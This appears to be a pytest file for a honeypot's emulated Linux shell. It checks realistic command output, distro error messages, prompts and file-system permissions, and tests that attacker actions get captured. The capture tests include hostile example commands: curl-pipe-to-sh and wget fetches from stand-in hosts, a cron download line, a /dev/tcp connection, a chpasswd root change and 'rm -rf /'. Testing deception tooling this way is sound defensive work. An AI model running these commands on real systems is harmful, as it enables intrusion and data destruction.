"""The pretended machine as an attacker meets it: commands, files, users, life, prompts, captures."""

from __future__ import annotations

import errno
import os
import re

import pytest

from decnet.services.shell import BytesInput, BytesOutput, Capture, CaptureKind, Machine, Shell
from tests.service_testing.shell_testing import NOW, boot, run

COMMANDS = [
    ("uname -a", r"Linux web01 6\.1\.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian .* x86_64 GNU/Linux\n"),
    ("id", r"uid=0\(root\) gid=0\(root\) groups=0\(root\)\n"),
    ("hostname; hostname -f; hostname -I", r"web01\nweb01\.corp\.example\n198\.51\.100\.7 \n"),
    ("uptime", r" 14:40:00 up 9 days,  6:13,  0 users,  load average: 0\.\d\d, 0\.\d\d, 0\.\d\d\n"),
    ("cat /proc/uptime", r"800000\.00 \d+\.\d\d\n"),
    ("cat /proc/version", r"Linux version 6\.1\.0-26-amd64 .*\n"),
    ("grep -c ^processor /proc/cpuinfo; nproc", r"(\d)\n\1\n"),
    ("ps -ef | grep -c '[s]shd'", r"[1-9]\n"),
    ("ps aux | head -2", r"USER +PID %CPU.*\nroot +1 .*/sbin/init\n"),
    ("free -m | head -2", r" +total +used.*\nMem: +\d+ +\d+ .*\n"),
    ("df -h / | tail -1 || df -h", r"(.*\n)+"),
    ("ip -br a", r"lo .*\neth0 +UP +198\.51\.100\.7/24 \n"),
    ("ip r", r"default via 198\.51\.100\.1 dev eth0 \n198\.51\.100\.0/24 dev eth0 .*\n"),
    ("ss -tln | tail -1", r"LISTEN .*0\.0\.0\.0:22 .*\n"),
    ("netstat -tlnp | grep -c sshd", r"1\n"),
    (
        "ls -ld /root /tmp /etc/shadow",
        r"-rw-r----- 1 root shadow .* /etc/shadow\ndrwx------ .* /root\ndrwxrwxrwt .* /tmp\n",
    ),
    ("ls -la /bin", r"lrwxrwxrwx 1 root root 7 .* /bin -> usr/bin\n"),
    ("stat -c '%U %a' /etc/passwd", r"root 644\n"),
    ("file /bin/bash /etc/passwd", r"/bin/bash: +ELF 64-bit LSB .*\n/etc/passwd: +ASCII text\n"),
    ("which ls python3 curl", r"/usr/bin/ls\n/usr/bin/python3\n/usr/bin/curl\n"),
    ("head -c 4 /bin/ls | xxd -p", r"7f454c46\n"),
    ("getent passwd deploy", r"deploy:x:1000:1000::/home/deploy:/bin/bash\n"),
    ("cat /home/deploy/.bash_history", r"ls\nsudo su\n"),
    ("stat -c '%U' /home/deploy/.bash_history", r"deploy\n"),
    ("tail -1 /var/log/auth.log | cut -c1-10", r"2025-11-22\n"),
    ("dpkg -l | grep -c ^ii", r"\d{2,}\n"),
    ("crontab -l", r""),
    ("iptables -L | head -1", r"Chain INPUT \(policy ACCEPT\)\n"),
    ("systemctl is-active ssh", r"active\n"),
    ("python3 -c 'print(\"hi\")'; python3 -c 'print(6*7)'", r"hi\n42\n"),
    ("python3 -c 'import os; print(os.listdir(\"/\"))'", r""),
    ("export A=1; env | grep ^A=; printenv A", r"A=1\n1\n"),
    ("su deploy -c whoami; sudo -u deploy id -u", r"deploy\n1000\n"),
    ("useradd -m eve && id eve", r"uid=1001\(eve\) gid=1001\(eve\) groups=1001\(eve\)\n"),
    ("echo secret > /tmp/x; chmod 600 /tmp/x; su deploy -c 'cat /tmp/x'", r""),
    ("printf '#!/bin/sh\\necho \"$1-$#\"\\n' > /tmp/s; chmod +x /tmp/s; /tmp/s a b", r"a-2\n"),
    ("printf 'echo sourced\\n' > /tmp/s; . /tmp/s; bash /tmp/s; sh < /tmp/s", r"(sourced\n){3}"),
    ("cd /var/log; ls > /dev/null; pwd; cd -; echo $OLDPWD", r"/var/log\n/root\n/var/log\n"),
    ("busybox echo hi; BB=1 busybox", r"hi\nBusyBox v.*\n(.*\n)*"),
    ("lscpu | grep -c Intel; lsblk | head -1; last | tail -1", r"\d\nNAME.*\nwtmp begins .*\n"),
]


@pytest.mark.parametrize(("command", "expected"), COMMANDS, ids=[command[:40] for command, _ in COMMANDS])
async def test_a_command_answers_as_the_machine_would(command: str, expected: str) -> None:
    ran = await run(command)
    assert re.fullmatch(expected, ran.out), ran


ERRORS = [
    ("debian", True, "foo", "-bash: foo: command not found\n", 127),
    ("debian", False, "foo", "bash: line 1: foo: command not found\n", 127),
    ("rocky9", True, "foo", "-bash: foo: command not found\n", 127),
    ("alpine", True, "foo", "-sh: foo: not found\n", 127),
    ("alpine", True, "cat /nope", "cat: can't open '/nope': No such file or directory\n", 1),
    ("debian", True, "ls /nope", "ls: cannot access '/nope': No such file or directory\n", 2),
    ("alpine", True, "ls /nope", "ls: /nope: No such file or directory\n", 1),
    ("debian", True, "cd /nope", "-bash: cd: /nope: No such file or directory\n", 1),
    ("alpine", True, "cd /nope", "-sh: cd: can't cd to /nope: No such file or directory\n", 2),
    ("debian", True, "echo )", "-bash: syntax error near unexpected token `)'\n", 2),
    ("alpine", True, "echo )", '-sh: syntax error: unexpected ")"\n', 2),
    ("debian", True, "/etc", "-bash: /etc: Is a directory\n", 126),
    ("debian", True, "/etc/passwd", "-bash: /etc/passwd: Permission denied\n", 126),
    ("debian", True, "cat < /nope", "-bash: /nope: No such file or directory\n", 1),
    (
        "debian",
        True,
        "rm -rf /",
        "rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe\n",
        1,
    ),
]


@pytest.mark.parametrize(("distro", "interactive", "command", "says", "status"), ERRORS)
async def test_an_error_has_the_words_of_its_distro(
    distro: str, interactive: bool, command: str, says: str, status: int
) -> None:
    ran = await run(command, machine=boot(distro), interactive=interactive)
    assert (ran.err, ran.status) == (says, status)


@pytest.mark.parametrize(
    ("distro", "user", "prompt"),
    [
        ("debian", "root", "root@web01:~# "),
        ("debian", "deploy", "deploy@web01:~$ "),
        ("ubuntu22", "deploy", "deploy@web01:~$ "),
        ("rocky9", "root", "[root@web01 ~]# "),
        ("centos7", "deploy", "[deploy@web01 ~]$ "),
        ("alpine", "root", "web01:~# "),
        ("arch", "deploy", "[deploy@web01 ~]$ "),
    ],
)
async def test_the_prompt_is_that_of_the_distro(distro: str, user: str, prompt: str) -> None:
    shell = Shell(boot(distro), user, interactive=True, tty=True)
    assert shell.prompt() == prompt
    assert shell.prompt(continued=True) == "> "
    await shell.run("cd /var/log", BytesInput(), BytesOutput(), BytesOutput())
    assert ("/var/log" if "[" not in prompt else " log]") in shell.prompt()
    await shell.close()


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("echo a", False),
        ("echo 'a", True),
        ("if true; then", True),
        ("a |", True),
        ("cat <<E\nx", True),
        ("x() {", True),
        ("echo )", False),
        ("echo \\", True),
        ("echo $(", True),
        ("", False),
    ],
)
def test_it_asks_for_another_line_where_bash_does(text: str, wanted: bool) -> None:
    assert Shell(boot(), "root", interactive=True).incomplete(text) is wanted


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("cat /etc/pass", ["/etc/passwd "]),
        ("whoa", ["whoami "]),
        ("ls /usr/loc", ["/usr/local/"]),
        ("echo $HOM", ["$HOME"]),
        ("ls /nope/x", []),
    ],
)
def test_tab_completes(text: str, found: list[str]) -> None:
    assert Shell(boot(), "root", interactive=True).complete(text) == found


async def test_what_is_written_stays_for_the_next_session_and_for_no_other_machine() -> None:
    machine = boot()
    await run("echo evil > /usr/bin/evil; rm /etc/motd; echo x >> /etc/passwd", machine=machine)
    later = await run("cat /usr/bin/evil; ls /etc/motd; tail -1 /etc/passwd", machine=machine)
    assert later.out == "evil\nx\n"
    other = await run("cat /usr/bin/evil; cat /etc/motd", machine=boot(hostname="web02"))
    assert other.out == "Welcome\n"


async def test_a_session_keeps_its_state_between_lines_and_loses_it_at_its_end() -> None:
    shell = Shell(boot(), "root", interactive=True, tty=True)
    out = BytesOutput()
    for line in ("x=5", "f() { echo $x; }", "cd /tmp", "f; pwd", "exit 3"):
        await shell.run(line, BytesInput(), out, BytesOutput())
    assert out.text() == "5\n/tmp\n"
    assert shell.exited == 3
    await shell.close()


async def test_su_puts_a_shell_on_top_and_exit_takes_it_away() -> None:
    shell = Shell(boot(), "root", interactive=True, tty=True)
    for line, prompt in (
        ("su - deploy", "deploy@web01:~$ "),
        ("exit", "root@web01:~# "),
        ("bash", "root@web01:~# "),
    ):
        await shell.run(line, BytesInput(), BytesOutput(), BytesOutput())
        assert shell.prompt() == prompt
    assert shell.exited is None
    await shell.close()


async def test_su_asks_for_the_password_without_echo() -> None:
    echoes: list[bool] = []
    seen: list[Capture] = []
    shell = Shell(boot(), "deploy", interactive=True, tty=True, echo=echoes.append, record=seen.append)
    err = BytesOutput()
    await shell.run("su", BytesInput(b"toor\n"), BytesOutput(), err)
    assert (err.text(), echoes, shell.prompt()) == (
        "Password: \n",
        [False, True],
        "root@web01:/home/deploy# ",
    )
    assert seen == [Capture(CaptureKind.SECRET, "su", "toor")]
    await shell.close()


async def test_sudo_refuses_who_is_not_in_sudoers() -> None:
    ran = await run("sudo id", user="deploy", stdin=b"s3cret\n", interactive=True)
    assert ran.err == "[sudo] password for deploy: \ndeploy is not in the sudoers file.\n"


@pytest.mark.parametrize(
    ("command", "kind", "text"),
    [
        ("curl -sm1 http://203.0.113.9/x.sh | sh", CaptureKind.DOWNLOAD, "http://203.0.113.9/x.sh"),
        ("wget -T1 -qO- https://evil.example/a", CaptureKind.DOWNLOAD, "https://evil.example/a"),
        ("echo 'x' > /tmp/m; chmod +x /tmp/m; /tmp/m", CaptureKind.EXECUTE, "/tmp/m"),
        ("perl -e 'system(1)'", CaptureKind.SCRIPT, "system(1)"),
        ("echo root:new | chpasswd", CaptureKind.SECRET, "root:new"),
        (
            "echo '* * * * * curl http://203.0.113.9/c' | crontab -",
            CaptureKind.DOWNLOAD,
            "http://203.0.113.9/c",
        ),
        ("exec 3<>/dev/tcp/203.0.113.9/4444", CaptureKind.DOWNLOAD, "/dev/tcp/203.0.113.9/4444"),
    ],
)
async def test_what_matters_is_captured(command: str, kind: CaptureKind, text: str) -> None:
    seen: list[Capture] = []
    await run(command, record=seen.append)
    assert [(capture.kind, capture.text) for capture in seen] == [(kind, text)]


async def test_a_machine_lives() -> None:
    now = [NOW]
    machine = boot(clock=lambda: now[0])
    before = await run(
        "cat /proc/uptime /proc/stat /proc/net/dev; cat /proc/loadavg; free; echo $$; wc -l < /var/log/auth.log; date",
        machine=machine,
    )
    now[0] += 7200
    after = await run(
        "cat /proc/uptime /proc/stat /proc/net/dev; cat /proc/loadavg; free; echo $$; wc -l < /var/log/auth.log; date",
        machine=machine,
    )
    changed = [a != b for a, b in zip(before.out.splitlines(), after.out.splitlines(), strict=True)]
    assert changed.count(True) >= 10


async def test_two_machines_share_no_identifier() -> None:
    line = "cat /etc/machine-id /proc/sys/kernel/random/boot_id; ip link | grep ether; cat /etc/fstab"
    one = set((await run(line, machine=boot(hostname="a"))).out.splitlines())
    two = set((await run(line, machine=boot(hostname="b"))).out.splitlines())
    assert one & two == {"# /etc/fstab: static file system information."}


async def test_dates_lie_between_installation_and_now() -> None:
    ran = await run("find /etc /home /root /var /tmp /boot -printf '%T@\\n'")
    dates = [float(line) for line in ran.out.split()]
    assert len(dates) > 100
    assert all(NOW - 9e6 <= date <= NOW for date in dates)


@pytest.mark.parametrize("distro", ["debian", "rocky9", "alpine", "arch"])
async def test_every_family_has_a_tree_and_the_usual_commands(distro: str) -> None:
    ran = await run(
        "for c in ls cat ps grep sed awk find id uname top kill wget tar vi; do command -v $c > /dev/null || echo no $c; done; find / 2>/dev/null | wc -l",
        machine=boot(distro),
    )
    assert ran.err == ""
    assert int(ran.out) > 400


# The file system, as SFTP uses it


def expect(number: int, machine: Machine, user: str, operation: str, *args: object) -> None:
    with pytest.raises(OSError, match=r".*") as caught:
        getattr(machine.fs, operation)(machine.credentials(user), *args)
    assert caught.value.errno == number


def test_the_file_system_refuses_as_the_kernel_does() -> None:
    machine = boot()
    expect(errno.EACCES, machine, "deploy", "read", "/etc/shadow")
    expect(errno.EACCES, machine, "deploy", "write", "/etc/motd", b"x")
    expect(errno.EACCES, machine, "deploy", "listdir", "/root")
    expect(errno.EACCES, machine, "deploy", "mkdir", "/x")
    expect(errno.EPERM, machine, "deploy", "chmod", "/etc/motd", 0o777)
    expect(errno.ENOENT, machine, "root", "stat", "/nope")
    expect(errno.ENOTDIR, machine, "root", "stat", "/etc/passwd/x")
    expect(errno.EEXIST, machine, "root", "mkdir", "/etc")
    expect(errno.ENOTEMPTY, machine, "root", "rmdir", "/etc")
    expect(errno.EISDIR, machine, "root", "unlink", "/etc")
    expect(errno.EISDIR, machine, "root", "write", "/etc", b"")
    expect(errno.EINVAL, machine, "root", "rename", "/etc", "/etc/x")
    expect(errno.EINVAL, machine, "root", "readlink", "/etc/passwd")
    expect(errno.ENAMETOOLONG, machine, "root", "mkdir", "/" + "x" * 256)
    expect(errno.EACCES, machine, "root", "write", "/proc/version", b"x")


def test_an_open_file_reads_and_writes_at_places() -> None:
    machine = boot()
    root = machine.credentials("root")
    file = machine.fs.open(root, "/tmp/f", os.O_RDWR | os.O_CREAT, 0o600)
    file.write(b"hello", 3)
    assert file.read(10, 0) == b"\0\0\0hello"
    file.truncate(4)
    assert machine.fs.read(root, "/tmp/f") == b"\0\0\0h"
    machine.fs.utime(root, "/tmp/f", 1000.0)
    info = machine.fs.stat(root, "/tmp/f")
    assert (info.size, info.mtime, info.mode & 0o777) == (4, 1000.0, 0o600)
    machine.fs.rename(root, "/tmp/f", "/tmp/g")
    assert machine.fs.listdir(root, "/tmp") == ["g"]
    used = machine.fs.used
    machine.fs.unlink(root, "/tmp/g")
    assert used == 4
    assert machine.fs.used == 0


def test_the_shared_tree_is_never_changed() -> None:
    one, two = boot(hostname="a"), boot(hostname="b")
    root = one.credentials("root")
    one.fs.chmod(root, "/usr/bin/passwd", 0o777)
    one.fs.unlink(root, "/usr/bin/ls")
    one.fs.rename(root, "/var/log/apt", "/tmp/apt")
    assert two.fs.stat(root, "/usr/bin/passwd").mode & 0o7777 != 0o777
    assert two.fs.exists(root, "/usr/bin/ls")
    assert two.fs.exists(root, "/var/log/apt/history.log")
